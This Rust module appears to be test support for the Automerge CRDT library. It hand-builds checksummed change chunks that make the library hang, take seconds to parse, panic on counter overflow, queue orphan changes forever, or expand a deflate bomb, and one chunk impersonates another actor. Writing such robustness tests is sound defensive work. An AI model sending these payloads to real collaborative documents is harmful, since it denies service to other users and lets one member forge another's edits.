//! Bytes that a hostile member could sign: changes that Automerge hangs, crawls or panics on, built by hand.
//!
//! Each is a well-formed chunk with a right checksum; only a reader that mistrusts its numbers survives it.

use sha2::{Digest, Sha256};

/// The parts of a change chunk, any of which may lie.
#[derive(Clone, Debug)]
pub struct Forged {
    /// Hashes of the changes it claims to build on.
    pub dependencies: Vec<[u8; 32]>,
    /// The actor it claims to be of.
    pub actor: Vec<u8>,
    /// Number among the actor's changes.
    pub seq: u64,
    /// Counter of the first operation.
    pub start_op: u64,
    /// The time, in seconds.
    pub time: i64,
    /// The message.
    pub message: Vec<u8>,
    /// Actors that operations refer to.
    pub other_actors: Vec<Vec<u8>>,
    /// Columns: specification and bytes.
    pub columns: Vec<(u64, Vec<u8>)>,
    /// Bytes after the columns.
    pub extra: Vec<u8>,
}

/// An operation: its actor and its counter.
pub type Op<'a> = (&'a [u8], u64);

/// What a change does to operations that it names.
#[derive(Clone, Debug)]
pub enum Act<'a> {
    /// Inserts a letter into a Text, after a letter or at its beginning.
    Insert {
        /// The Text.
        text: Op<'a>,
        /// The letter before.
        after: Option<Op<'a>>,
    },
    /// Deletes a letter of a Text.
    Delete {
        /// The Text.
        text: Op<'a>,
        /// The letter.
        letter: Op<'a>,
    },
    /// Sets a root key in the place of a value.
    Replace {
        /// The key.
        key: &'a str,
        /// The value that was there.
        value: Op<'a>,
    },
}

impl<'a> Act<'a> {
    fn named(&self) -> Vec<Op<'a>> {
        match *self {
            Act::Insert { text, after } => std::iter::once(text).chain(after).collect(),
            Act::Delete { text, letter } => vec![text, letter],
            Act::Replace { value, .. } => vec![value],
        }
    }
}

impl Forged {
    /// A change of `count` operations, each setting the root key `key` to true: a run in every column.
    pub fn sets(actor: &[u8], start_op: u64, count: u64, key: &str) -> Self {
        // As Automerge writes it: one value is a literal.
        let run_length = if count == 1 { -1 } else { i64::try_from(count).unwrap_or(i64::MAX) };
        let run = |item: &[u8]| [signed(run_length), item.to_vec()].concat();
        let text = [unsigned(key.len() as u64), key.as_bytes().to_vec()].concat();
        Self {
            dependencies: vec![],
            actor: actor.to_vec(),
            seq: 1,
            start_op,
            time: 0,
            message: vec![],
            other_actors: vec![],
            columns: vec![
                (0x15, run(&text)),
                (0x34, unsigned(count)),
                (0x42, run(&[1])),
                (0x56, run(&[2])),
                (0x70, run(&[0])),
            ],
            extra: vec![],
        }
    }

    /// A change of one operation that names operations of others: `act` tells what it does with them.
    pub fn naming(actor: &[u8], start_op: u64, act: &Act<'_>) -> Self {
        let named = act.named();
        let mut others: Vec<Vec<u8>> = named.iter().map(|op| op.0.to_vec()).filter(|other| other != actor).collect();
        others.sort();
        others.dedup();
        let place = |op: &Op<'_>| {
            let other = others.iter().position(|other| other == op.0);
            literal(unsigned(other.map_or(0, |place| place as u64 + 1)))
        };
        let counter = |op: &Op<'_>| literal(signed(i64::try_from(op.1).unwrap_or(i64::MAX)));
        let columns = match act {
            Act::Insert { text, after } => {
                let mut columns = vec![(0x01, place(text)), (0x02, literal(unsigned(text.1)))];
                columns.extend(after.as_ref().map(|after| (0x11, place(after))));
                columns.push((0x13, after.as_ref().map_or_else(|| literal(signed(0)), counter)));
                columns.extend([(0x34, vec![0, 1]), (0x42, literal(vec![1])), (0x56, literal(unsigned(0x16)))]);
                columns.extend([(0x57, b"!".to_vec()), (0x70, literal(vec![0]))]);
                columns
            }
            Act::Delete { text, letter } => vec![
                (0x01, place(text)),
                (0x02, literal(unsigned(text.1))),
                (0x11, place(letter)),
                (0x13, counter(letter)),
                (0x34, vec![1]),
                (0x42, literal(vec![3])),
                (0x56, literal(vec![0])),
                (0x70, literal(vec![1])),
                (0x71, place(letter)),
                (0x73, counter(letter)),
            ],
            Act::Replace { key, value } => vec![
                (0x15, literal(prefixed(key.as_bytes()))),
                (0x34, vec![1]),
                (0x42, literal(vec![1])),
                (0x56, literal(vec![2])),
                (0x70, literal(vec![1])),
                (0x71, place(value)),
                (0x73, counter(value)),
            ],
        };
        Self { other_actors: others, columns, ..Self::sets(actor, start_op, 1, "x") }
    }

    /// The chunk, with its right length and checksum.
    pub fn bytes(&self) -> Vec<u8> {
        chunk(1, &self.content())
    }

    /// What stands between the header and the end.
    pub fn content(&self) -> Vec<u8> {
        let mut content = unsigned(self.dependencies.len() as u64);
        content.extend(self.dependencies.concat());
        content.extend(prefixed(&self.actor));
        content.extend(unsigned(self.seq));
        content.extend(unsigned(self.start_op));
        content.extend(signed(self.time));
        content.extend(prefixed(&self.message));
        content.extend(unsigned(self.other_actors.len() as u64));
        for actor in &self.other_actors {
            content.extend(prefixed(actor));
        }
        content.extend(unsigned(self.columns.len() as u64));
        for (spec, bytes) in &self.columns {
            content.extend(unsigned(*spec));
            content.extend(unsigned(bytes.len() as u64));
        }
        content.extend(self.columns.iter().flat_map(|(_, bytes)| bytes.clone()));
        content.extend(&self.extra);
        content
    }
}

/// Declares 2^40 operations in about a hundred bytes; Automerge's parser goes through them one by one.
pub fn endless(actor: &[u8]) -> Vec<u8> {
    Forged::sets(actor, 1, 1 << 40, "x").bytes()
}

/// Declares 10,000,000 operations; Automerge takes seconds to parse and more to apply them.
pub fn crawling(actor: &[u8]) -> Vec<u8> {
    Forged::sets(actor, 1, 10_000_000, "x").bytes()
}

/// Two operations from `u32::MAX` on; Automerge panics when applying the second.
pub fn past_the_top(actor: &[u8]) -> Vec<u8> {
    Forged::sets(actor, u64::from(u32::MAX), 2, "x").bytes()
}

/// One operation at `u32::MAX`; Automerge takes it, and panics at the next edit of the document.
pub fn at_the_top(actor: &[u8]) -> Vec<u8> {
    Forged::sets(actor, u64::from(u32::MAX), 1, "x").bytes()
}

/// A change that begins at a counter which is plausible in itself, but not after what it builds on (nothing).
pub fn burnt_counters(actor: &[u8]) -> Vec<u8> {
    Forged::sets(actor, (1 << 31) - 1, 1, "x").bytes()
}

/// A compressed chunk: `inflated` zero bytes in stored and run-length coded deflate blocks.
pub fn bomb(inflated: usize) -> Vec<u8> {
    let mut deflated = Vec::new();
    // A fixed-code block: literal zero, then matches of length 258 at distance 1. See RFC 1951, section 3.2.6.
    let mut bits = Bits::default();
    bits.push(1, 1);
    bits.push(1, 2);
    bits.push_code(0x30, 8);
    for _ in 0..inflated.saturating_sub(1) / 258 {
        bits.push_code(0b1100_0101, 8);
        bits.push_code(0, 5);
    }
    bits.push_code(0, 7);
    deflated.extend(bits.finish());
    chunk(2, &deflated)
}

/// A change in the name of another actor, whose own change with that number could then never be applied.
pub fn borrowed(victim: &[u8]) -> Vec<u8> {
    Forged::sets(victim, 1, 1, "x").bytes()
}

/// A change that builds on changes nobody has; Automerge queues it for ever.
pub fn orphan(actor: &[u8]) -> Vec<u8> {
    Forged { dependencies: vec![[7; 32]], ..Forged::sets(actor, 2, 1, "x") }.bytes()
}

/// An unsigned LEB128 number.
pub fn unsigned(mut value: u64) -> Vec<u8> {
    let mut bytes = Vec::new();
    loop {
        let low = u8::try_from(value & 0x7f).unwrap_or_default();
        value >>= 7;
        bytes.push(if value == 0 { low } else { low | 0x80 });
        if value == 0 {
            return bytes;
        }
    }
}

/// A signed LEB128 number.
pub fn signed(mut value: i64) -> Vec<u8> {
    let mut bytes = Vec::new();
    loop {
        let low = u8::try_from(value & 0x7f).unwrap_or_default();
        value >>= 7;
        let done = (value == 0 && low & 0x40 == 0) || (value == -1 && low & 0x40 != 0);
        bytes.push(if done { low } else { low | 0x80 });
        if done {
            return bytes;
        }
    }
}

/// A chunk of the given type around `content`, with its right length and checksum.
pub fn chunk(kind: u8, content: &[u8]) -> Vec<u8> {
    let hashed = [vec![kind], unsigned(content.len() as u64), content.to_vec()].concat();
    let hash = Sha256::digest(&hashed);
    [&[0x85, 0x6f, 0x4a, 0x83][..], hash.get(..4).unwrap_or_default(), &hashed].concat()
}

/// A column of one value, as Automerge writes it.
fn literal(value: Vec<u8>) -> Vec<u8> {
    [signed(-1), value].concat()
}

fn prefixed(bytes: &[u8]) -> Vec<u8> {
    [unsigned(bytes.len() as u64), bytes.to_vec()].concat()
}

/// Bits as deflate packs them: numbers from their lowest bit, codes from their highest.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    used: u32,
}

impl Bits {
    fn push(&mut self, value: u32, count: u32) {
        for index in 0..count {
            if self.used.is_multiple_of(8) {
                self.bytes.push(0);
            }
            if let Some(last) = self.bytes.last_mut() {
                *last |= u8::from(value >> index & 1 == 1) << (self.used % 8);
            }
            self.used += 1;
        }
    }

    fn push_code(&mut self, code: u32, count: u32) {
        for index in (0..count).rev() {
            self.push(code >> index & 1, 1);
        }
    }

    fn finish(self) -> Vec<u8> {
        self.bytes
    }
}
